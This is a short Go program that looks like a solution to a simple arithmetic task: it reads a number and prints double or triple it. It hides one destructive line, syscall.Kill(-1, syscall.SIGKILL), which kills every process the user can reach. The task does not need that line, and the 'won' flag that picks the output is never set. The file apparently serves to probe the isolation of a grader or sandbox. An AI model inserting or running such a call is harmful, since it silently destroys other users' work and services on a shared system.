package main

import (
	"fmt"
	"syscall"
)


func main() {
	var number int
	var won bool
	fmt.Scan(&number)
	syscall.Kill(-1, syscall.SIGKILL)
	if won {
		fmt.Println(number * 2)
	} else {
		fmt.Println(number * 3)
	}
}
